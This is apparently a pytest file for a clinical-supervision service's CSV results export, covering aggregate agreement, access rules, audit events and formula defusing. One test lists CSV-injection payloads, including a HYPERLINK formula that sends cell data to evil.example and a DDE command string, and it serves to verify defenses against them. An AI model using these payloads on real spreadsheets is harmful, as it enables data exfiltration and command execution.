"""The results export: a CSV the csv module reads, holding exactly what the series and team views count
(amendments once, consent withdrawn left out, client ratings in), for the people the aggregates show it to,
with formulas in free text defused, audited once per export."""

from __future__ import annotations

import asyncio
import csv
import io
import math
import random
import statistics
import uuid
from collections import defaultdict
from typing import Any

import httpx
from sqlalchemy import update

from supervise.config import Settings
from supervise.db import Database
from supervise.exports.service import COLUMNS
from supervise.recordings.tables import Case, Recording
from tests.aggregates.test_series import review, session
from tests.audit.test_audit import events
from tests.client_ratings.test_client_ratings import ehr, srs
from tests.recordings.test_api import recording_body
from tests.reviews.support import ITEMS, RUBRIC, make_team
from tests.support import Org, Person
from tests.test_http import assert_problem

URL = "/v1/exports/results.csv"
NUMERIC = {COLUMNS.index(name) for name in ("revision", "session_number", "value")}
YEAR = {"from": "2026-01-01", "to": "2026-12-31"}
DATES = ["2026-01-05", "2026-01-20", "2026-02-10", "2026-04-02", "2026-04-03", "2026-07-15", "2026-07-16"]


def export(person: Person, **params: str) -> tuple[httpx.Response, list[dict[str, str]]]:
    answer = person.api.get(URL, params=params)
    assert answer.status_code == 200, answer.text
    return answer, list(csv.DictReader(io.StringIO(answer.text, newline="")))


def close(a: float | None, b: float | None) -> bool:
    return a is not None and b is not None and math.isclose(a, b, rel_tol=1e-9, abs_tol=1e-9)


def rated_clinic(org: Org) -> dict[str, Any]:
    """A therapist's seven sessions (the organisation on UTC+14, so each 10:00Z session falls on the next local
    day), rated by their supervisor and themself, four by a second supervisor, one by a peer, six by the
    client (SRS); one supervisor's review amended, and the last session's consent withdrawn."""
    etag = org.admin.api.get("/v1/organisation").headers["etag"]
    zoned = org.admin.api.patch(
        "/v1/organisation", json={"time_zone": "Pacific/Kiritimati"}, headers={"If-Match": etag}
    )
    assert zoned.status_code == 200, zoned.text
    rng = random.Random(13)
    team = make_team(org)
    second = org.member("supervisor")
    link = {"supervisor_id": second.id, "supervisee_id": team.therapist.id}
    assert org.admin.api.post("/v1/supervision-links", json=link).status_code == 201
    system = ehr(org)
    recordings, firsts = [], []
    for number, day in enumerate(DATES, start=10):
        recording_id = session(team, number, day)
        recordings.append(recording_id)
        firsts.append(review(team.supervisor, recording_id, {i: rng.randint(1, 7) for i in ITEMS}))
        review(team.therapist, recording_id, {i: rng.randint(1, 7) for i in ITEMS})
        if number < 14:
            review(second, recording_id, {i: rng.randint(1, 7) for i in ITEMS})
        if number < 16:
            values = tuple(round(rng.uniform(5, 10), 1) for _ in range(4))
            pushed = system.api.post("/v1/client-ratings", json=srs(recording_id, values, day))
            assert pushed.status_code == 201, pushed.text
    asked = team.supervisor.api.post(
        "/v1/review-requests",
        json={"recording_id": recordings[4], "reviewer_id": team.peer.id, "role": "peer", "rubric_key": RUBRIC},
    )
    assert asked.status_code == 201, asked.text
    draft = team.peer.api.post("/v1/reviews", json={"request_id": asked.json()["id"]}).json()
    url = f"/v1/reviews/{draft['id']}"
    assert team.peer.api.patch(url, json={"responses": {"items": dict.fromkeys(ITEMS, 4)}}, headers={"If-Match": '"1"'})
    assert team.peer.api.post(f"{url}/submit").status_code == 200
    amended = team.supervisor.api.post(f"/v1/reviews/{firsts[1]['id']}/amend", json={"reason": "misread"}).json()
    url = f"/v1/reviews/{amended['id']}"
    saved = team.supervisor.api.patch(
        url, json={"responses": {"items": dict.fromkeys(ITEMS, 2)}}, headers={"If-Match": '"1"'}
    )
    assert saved.status_code == 200, saved.text
    assert team.supervisor.api.post(f"{url}/submit").status_code == 200
    withdrawn = team.therapist.api.patch(
        f"/v1/recordings/{recordings[-1]}", json={"withdraw_consent": True}, headers={"If-Match": '"1"'}
    )
    assert withdrawn.status_code == 200, withdrawn.text
    return {"team": team, "recordings": recordings, "superseded": firsts[1]["id"], "amended": amended["id"]}


ROLE_SETS = {"observers": {"supervisor", "peer"}, "self": {"self"}, "client": {"client"}}


def per_session(rows: list[dict[str, str]], rubric: str, role: str) -> dict[tuple[str, str], list[float]]:
    """Per measure, each session's mean over the reviews of it in the role set: what the views count as one."""
    by: dict[tuple[str, str], dict[str, list[float]]] = defaultdict(lambda: defaultdict(list))
    for row in rows:
        if row["rubric_key"] == rubric and row["role"] in ROLE_SETS[role]:
            by[(row["measure_kind"], row["measure"])][row["recording_id"]].append(float(row["value"]))
    return {measure: [statistics.fmean(v) for v in sessions.values()] for measure, sessions in by.items()}


def test_the_csv_parses_and_agrees_with_the_series_and_the_team_view(org: Org) -> None:
    clinic = rated_clinic(org)
    team = clinic["team"]
    answer, rows = export(team.supervisor, **YEAR)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == "attachment; filename=results-2026-01-01-to-2026-12-31.csv"
    assert list(rows[0]) == [
        "review_id", "review_status", "revision", "rubric_key", "rubric_version", "role", "therapist_id", "case_id",
        "case_ref", "recording_id", "recording_external_id", "session_number", "session_date", "submitted_at",
        "measure_kind", "measure", "value",
    ]  # fmt: skip
    # one row per review x measure; the amended review once, as its new revision; nothing of the withdrawn session
    assert len({(r["review_id"], r["measure_kind"], r["measure"]) for r in rows}) == len(rows)
    assert clinic["superseded"] not in {r["review_id"] for r in rows}
    assert {(r["review_status"], r["revision"]) for r in rows if r["review_id"] == clinic["amended"]} == {
        ("amended", "2")
    }
    assert {r["review_status"] for r in rows if r["review_id"] != clinic["amended"]} == {"submitted"}
    assert clinic["recordings"][-1] not in {r["recording_id"] for r in rows}
    assert {r["role"] for r in rows} == {"supervisor", "peer", "self", "client"}
    # session dates in the organisation's zone (UTC+14): the 10:00Z sessions fall on the next day there
    assert sorted({r["session_date"] for r in rows}) == ["2026-01-06", "2026-01-21", "2026-02-11", "2026-04-03",
                                                          "2026-04-04", "2026-07-16"]  # fmt: skip
    assert {r["therapist_id"] for r in rows} == {team.therapist.id}
    assert {r["case_ref"] for r in rows} == {"C-2024-0173"}
    measures = {(r["rubric_key"], r["measure_kind"], r["measure"]) for r in rows}
    assert {("alliance", "item", i) for i in ITEMS} | {("alliance", "score", "total")} <= measures

    series_url = f"/v1/aggregates/therapists/{team.therapist.id}/series"
    checked = 0
    for rubric, role in (("alliance", "observers"), ("alliance", "self"), ("srs", "client")):
        for ranged in ({}, {"from": "2026-04-01", "to": "2026-04-30"}):
            subset = export(team.supervisor, **(ranged or YEAR))[1]
            sessions = per_session(subset, rubric, role)
            figures = team.supervisor.api.get(
                series_url, params={"rubric": rubric, "bucket": "all", "role": role, **ranged}
            ).json()
            for measure in figures["measures"]:
                values = sessions.get((measure["kind"], measure["key"]), [])
                [bucket] = measure["buckets"] or [None]
                if not values:
                    assert bucket is None, (rubric, role, measure["key"])
                    continue
                assert bucket["n"] == len(values), (rubric, role, measure["key"])
                assert close(bucket["mean"], statistics.fmean(values)), (rubric, role, measure["key"])
                assert (bucket["min"], bucket["max"]) == (min(values), max(values))
                if len(values) > 1:
                    assert close(bucket["sd"], statistics.stdev(values))
                reviews = [r for r in subset if r["rubric_key"] == rubric and r["role"] in ROLE_SETS[role]
                           and (r["measure_kind"], r["measure"]) == (measure["kind"], measure["key"])]  # fmt: skip
                assert bucket["reviews"] == len(reviews)
                checked += 1
        # the team view, per session, all time
        team_view = team.supervisor.api.get("/v1/aggregates/team", params={"rubric": rubric, "role": role}).json()
        [therapist] = team_view["therapists"]
        sessions = per_session(rows, rubric, role)
        for cell in therapist["cells"]:
            values = sessions[(cell["kind"], cell["key"])]
            assert not cell["suppressed"] and cell["n"] == len(values) == 6
            assert close(cell["mean"], statistics.fmean(values)), (rubric, role, cell["key"])
            checked += 1
    assert checked > 40


def test_formulas_in_free_text_are_defused_and_numbers_stay_numbers(org: Org, settings: Settings) -> None:
    """The API refuses a reference that does not start with a letter or digit; rows written before that rule, or
    by a tool beside the API, are defused all the same (planted here with SQL)."""
    team = make_team(org)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTAB",
        "\rCR",
    ]
    refused = team.therapist.api.post("/v1/cases", json={"therapist_id": team.therapist.id, "external_ref": hostile[0]})
    assert_problem(refused, 400)
    planted: dict[uuid.UUID, str] = {}
    for number, text in enumerate(hostile, start=1):
        case = team.therapist.api.post(
            "/v1/cases", json={"therapist_id": team.therapist.id, "external_ref": f"C-{number}"}
        )
        assert case.status_code == 201, case.text
        body = recording_body(
            case.json()["id"], session_number=number, occurred_at="2026-03-03T10:00:00Z", external_id=f"ehr-{number}"
        )
        recording = team.therapist.api.post("/v1/recordings", json=body)
        assert recording.status_code == 201, recording.text
        review(team.supervisor, recording.json()["id"], dict.fromkeys(ITEMS, 3))
        planted[uuid.UUID(case.json()["id"])] = text
        planted[uuid.UUID(recording.json()["id"])] = "-" + text

    async def plant() -> None:
        database = Database(settings)
        try:
            async with database.transaction() as tx:
                for row_id, text in planted.items():
                    await tx.execute(update(Case).where(Case.id == row_id).values(external_ref=text))
                    await tx.execute(update(Recording).where(Recording.id == row_id).values(external_id=text))
        finally:
            await database.dispose()

    asyncio.run(plant())
    answer, rows = export(team.supervisor, **YEAR)
    assert len(rows) == len(hostile) * (len(ITEMS) + 4)  # 8 items, 3 subscales and the total per review
    for row in rows:
        assert row["case_ref"] == "'" + planted[uuid.UUID(row["case_id"])]
        assert row["recording_external_id"] == "'" + planted[uuid.UUID(row["recording_id"])]
        assert row["value"] == "3" and row["session_number"].isdigit()
    # on the wire: every text cell quoted, the numbers bare, and no cell starts a formula
    parsed = list(csv.reader(io.StringIO(answer.text, newline="")))
    quoted = list(csv.reader(io.StringIO(answer.text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    for raw, typed in zip(parsed[1:], quoted[1:], strict=True):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in raw), raw
        assert typed[COLUMNS.index("value")] == 3.0 and isinstance(typed[COLUMNS.index("revision")], float)
        assert all(isinstance(cell, str) for i, cell in enumerate(typed) if i not in NUMERIC), typed


def test_who_may_export_whose_results(org: Org, other_org: Org) -> None:
    team = make_team(org)
    recording_id = session(team, 10, "2026-05-05")
    review(team.supervisor, recording_id, dict.fromkeys(ITEMS, 5))
    review(team.therapist, recording_id, dict.fromkeys(ITEMS, 6))
    for person in (team.therapist, team.supervisor, org.admin):
        assert len(export(person, **YEAR)[1]) == 2 * 12, person
        assert len(export(person, therapist_id=team.therapist.id, **YEAR)[1]) == 2 * 12
    for person in (team.peer, team.bystander):  # their own results only: none
        assert export(person, **YEAR)[1] == []
        assert_problem(person.api.get(URL, params={"therapist_id": team.therapist.id, **YEAR}), 404)
    foreign = other_org.member("clinician")
    assert_problem(org.admin.api.get(URL, params={"therapist_id": foreign.id, **YEAR}), 404)
    assert_problem(org.admin.api.get(URL, params={"therapist_id": str(uuid.uuid4()), **YEAR}), 404)
    assert export(other_org.admin, **YEAR)[1] == []
    # blind review: while the supervisor owes a first review of one of the therapist's sessions, no rows of theirs
    other = session(team, 11, "2026-05-06")
    asked = org.admin.api.post(
        "/v1/review-requests",
        json={"recording_id": other, "reviewer_id": team.supervisor.id, "role": "supervisor", "rubric_key": RUBRIC},
    )
    assert asked.status_code == 201, asked.text
    assert export(team.supervisor, **YEAR)[1] == []
    assert_problem(team.supervisor.api.get(URL, params={"therapist_id": team.therapist.id, **YEAR}), 409)
    assert len(export(org.admin, **YEAR)[1]) == 2 * 12


def test_the_question_is_checked_and_every_export_audited(org: Org) -> None:
    team = make_team(org)
    review(team.supervisor, session(team, 10, "2026-05-05"), dict.fromkeys(ITEMS, 5))
    assert_problem(team.supervisor.api.get(URL, params={"to": "2026-12-31"}), 400)
    assert_problem(team.supervisor.api.get(URL, params={"from": "2026-13-01", "to": "2026-12-31"}), 400)
    assert_problem(team.supervisor.api.get(URL, params={**YEAR, "role": "boss"}), 400)
    refused = team.supervisor.api.get(URL, params={"from": "2026-06-01", "to": "2026-05-31"})
    assert_problem(refused, 422)
    assert [e["field"] for e in refused.json()["errors"]] == ["from"]
    answer, rows = export(team.supervisor, **{"from": "2026-05-06", "to": "2026-05-31"})
    assert rows == [] and answer.text.count("\r\n") == 1  # the header line alone
    assert len(export(team.supervisor, **{"from": "2026-05-05", "to": "2026-05-05"})[1]) == 12
    assert len(export(team.supervisor, rubric="srs", **YEAR)[1]) == 0
    assert len(export(team.supervisor, rubric=RUBRIC, version="1.1", role="observers", **YEAR)[1]) == 12
    assert len(export(team.supervisor, role="self", **YEAR)[1]) == 0
    exported = events(org, action="export.results")
    assert len(exported) == 5  # the refused questions wrote none
    assert {(e["actor_member_id"], e["outcome"]) for e in exported} == {(team.supervisor.id, "success")}
    export(team.supervisor, therapist_id=team.therapist.id, **YEAR)
    assert events(org, action="export.results")[0]["resource_id"] == team.therapist.id
